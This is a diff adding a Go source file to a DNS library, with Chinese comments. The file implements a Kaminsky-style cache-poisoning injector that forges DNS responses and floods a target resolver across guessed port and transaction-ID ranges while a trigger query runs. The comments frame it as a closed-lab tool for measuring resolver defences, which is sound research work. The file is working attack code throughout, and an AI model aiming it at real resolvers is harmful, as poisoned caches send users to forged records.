@@ -0,0 +1,159 @@
+// Copyright 2024 TochusC AOSP Lab. All rights reserved.
+
+// injector.go 文件定义了 Injector 回复注入器，用于在封闭的实验环境中进行
+// Kaminsky 式缓存投毒实验：其会在通过客户端触发解析器查询的同时，
+// 在配置的端口及事务 ID 范围内，向解析器发送大量伪造的回复，
+// 以测量解析器在源端口随机化、事务 ID 随机化等防御下的抵抗能力。
+//
+// 注入器不会伪造 IP 源地址，伪造的回复从本机的 LocalAddr 发出，
+// 因此需要在实验拓扑中令注入器持有被仿冒的权威服务器地址。
+
+package xdns
+
+import (
+	"encoding/binary"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"sync"
+
+	"github.com/tochusc/xdns/client"
+	"github.com/tochusc/xdns/dns"
+)
+
+// InjectorConfig 记录回复注入器的配置
+type InjectorConfig struct {
+	// 伪造回复的发送地址，需为本机地址，通常为被仿冒的权威服务器地址及 53 端口
+	LocalAddr *net.UDPAddr
+	// 目标解析器地址
+	Resolver net.IP
+	// 猜测的解析器源端口范围，闭区间
+	PortMin uint16
+	PortMax uint16
+	// 猜测的事务 ID 范围，闭区间
+	IDMin uint16
+	IDMax uint16
+	// 每轮最多发送的伪造回复数量，0 表示不限制
+	Budget int
+	// 用于触发解析器查询的客户端，其服务器地址应为目标解析器
+	Trigger *client.Client
+	// 日志输出
+	LogWriter io.Writer
+}
+
+// Injector 回复注入器：向解析器发送伪造的回复。
+type Injector struct {
+	Config         InjectorConfig
+	InjectorLogger *log.Logger
+}
+
+// NewInjector 根据配置创建一个新的回复注入器
+func NewInjector(conf InjectorConfig) *Injector {
+	injectorLogger := log.New(conf.LogWriter, "Injector: ", log.LstdFlags)
+	if conf.PortMax < conf.PortMin {
+		conf.PortMin, conf.PortMax = conf.PortMax, conf.PortMin
+	}
+	if conf.IDMax < conf.IDMin {
+		conf.IDMin, conf.IDMax = conf.IDMax, conf.IDMin
+	}
+	return &Injector{
+		Config:         conf,
+		InjectorLogger: injectorLogger,
+	}
+}
+
+// Craft 构造伪造回复的模板，其事务 ID 将在发送时被逐个替换
+// 其接受参数为：
+//   - qName string，解析器将要向权威服务器发出的查询名称
+//   - qType dns.DNSType，查询类型
+//   - answer, authority, additional []dns.DNSResourceRecord，伪造回复的各部分
+//
+// 返回值为：
+//   - dns.DNSMessage，伪造回复的模板
+func (i *Injector) Craft(qName string, qType dns.DNSType,
+	answer, authority, additional []dns.DNSResourceRecord) dns.DNSMessage {
+	qry := dns.DNSMessage{
+		Header: dns.DNSHeader{QDCount: 1},
+		Question: []dns.DNSQuestion{{
+			Name:  *dns.NewDNSName(qName),
+			Type:  qType,
+			Class: dns.DNSClassIN,
+		}},
+	}
+	resp := InitNXDOMAIN(qry)
+	resp.Header.RCode = dns.DNSResponseCodeNoErr
+	resp.Answer = append(resp.Answer, answer...)
+	resp.Authority = append(resp.Authority, authority...)
+	resp.Additional = append(resp.Additional, additional...)
+	FixCount(&resp)
+	return resp
+}
+
+// Flood 在配置的端口及事务 ID 范围内发送伪造回复
+// 其接受参数为：
+//   - tmpl dns.DNSMessage，伪造回复的模板
+//
+// 返回值为：
+//   - int，实际发送的伪造回复数量
+//   - error，错误信息
+func (i *Injector) Flood(tmpl dns.DNSMessage) (int, error) {
+	conn, err := net.ListenUDP("udp", i.Config.LocalAddr)
+	if err != nil {
+		return 0, fmt.Errorf("method Injector Flood failed: listen on %v failed.\n%v", i.Config.LocalAddr, err)
+	}
+	defer conn.Close()
+
+	packet := tmpl.Encode()
+	sent := 0
+	for port := int(i.Config.PortMin); port <= int(i.Config.PortMax); port++ {
+		dst := &net.UDPAddr{IP: i.Config.Resolver, Port: port}
+		for id := int(i.Config.IDMin); id <= int(i.Config.IDMax); id++ {
+			if i.Config.Budget > 0 && sent >= i.Config.Budget {
+				return sent, nil
+			}
+			binary.BigEndian.PutUint16(packet[0:2], uint16(id))
+			if _, err := conn.WriteToUDP(packet, dst); err != nil {
+				return sent, fmt.Errorf("method Injector Flood failed: send to %v failed.\n%v", dst, err)
+			}
+			sent++
+		}
+	}
+	return sent, nil
+}
+
+// RaceResult 记录一轮注入的结果
+type RaceResult struct {
+	// 触发查询得到的回复
+	Response dns.DNSMessage
+	// 触发查询的错误信息
+	TriggerErr error
+	// 发送的伪造回复数量
+	Sent int
+	// 发送伪造回复的错误信息
+	FloodErr error
+}
+
+// Race 通过客户端向解析器发送触发查询，并同时发送伪造回复
+// 其接受参数为：
+//   - qName string，触发查询的名称
+//   - qType dns.DNSType，触发查询的类型
+//   - tmpl dns.DNSMessage，伪造回复的模板
+//
+// 返回值为：
+//   - RaceResult，本轮注入的结果，可通过比较 Response 与伪造内容判断投毒是否成功
+func (i *Injector) Race(qName string, qType dns.DNSType, tmpl dns.DNSMessage) RaceResult {
+	result := RaceResult{}
+	wg := sync.WaitGroup{}
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		result.Response, result.TriggerErr = i.Config.Trigger.Query(qName, qType)
+	}()
+	result.Sent, result.FloodErr = i.Flood(tmpl)
+	wg.Wait()
+
+	i.InjectorLogger.Printf("Race for %s %s: sent %d forged responses, trigger error: %v, flood error: %v",
+		qName, qType, result.Sent, result.TriggerErr, result.FloodErr)
+	return result
+}